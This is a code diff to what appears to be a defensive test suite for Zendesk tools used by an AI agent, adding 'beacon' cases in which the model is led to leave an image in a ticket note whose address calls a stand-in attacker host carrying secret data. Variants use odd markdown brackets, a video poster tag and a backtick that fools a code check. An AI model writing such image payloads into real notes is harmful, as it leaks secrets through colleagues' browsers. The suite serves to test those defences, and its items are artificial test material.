@@ -185,19 +185,30 @@ let_in(
 )  # fmt: skip
 
 
-def beacon(name: str, tries: str, body: str, tool: str, /, **arguments: Any) -> None:
+IMAGES_ARE_REFUSED = all_of(
+    put_in_place("zendesk_tools.ticket_comments:refuse_images", nothing),
+    put_in_place("zendesk_tools.ticket_creation:refuse_images", nothing),
+)
+
+
+def beacon(
+    name: str,
+    tries: str,
+    body: str,
+    tool: str = "add_internal_note",
+    /,
+    without: Without = IMAGES_ARE_REFUSED,
+    defence: str = "a note holds no image and no tag",
+    **arguments: Any,
+) -> None:
     """Leaves an image in a note, whose address a colleague's browser will fetch."""
 
     async def run(_: Ground) -> bool:
         sandbox = Sandbox()
-        await call(sandbox, tool, declines, body=body, **arguments)
+        where = arguments or {"ticket_id": OPEN_TICKET}
+        await call(sandbox, tool, declines, body=body, **where)
         return any(EVIL in "\n".join(sandbox.store.said(one)) for one in sandbox.store.comments)
 
-    without = all_of(
-        put_in_place("zendesk_tools.ticket_comments:refuse_images", nothing),
-        put_in_place("zendesk_tools.ticket_creation:refuse_images", nothing),
-    )
-    defence = "a note holds no image"
     ATTACKS.append(Attack(name, ATTACKS.family, "model", tries, defence, run, without))
 
 
@@ -213,6 +224,20 @@ beacon(
     "image in a new ticket's note", "the same in the first note of a new ticket",
     f'See <img src="https://{EVIL}/p.png?d=secret">', "create_ticket",
     subject="New", requester_id=REQUESTER_ID,
+)  # fmt: skip
+beacon(
+    "image with words of many kinds", "the same, with brackets and line breaks in its words",
+    r"See ![a[b]\] c" + "\n" + f"d](https://{EVIL}/p.png?d=secret)",
+)  # fmt: skip
+beacon(
+    "image by another tag", "a poster of a film, and a background",
+    f'<video poster="https://{EVIL}/p.png?d=secret"></video>',
+)  # fmt: skip
+beacon(
+    "image behind what looks like code", "a backtick in a link's address, for a check to see code",
+    f"See [x](/u`)![x](https://{EVIL}/p.png?d=secret)`",
+    without=put_in_place("zendesk_tools.note_texts:_UNSURE", ()),
+    defence="code is only what every reader takes for code",
 )  # fmt: skip
 
 
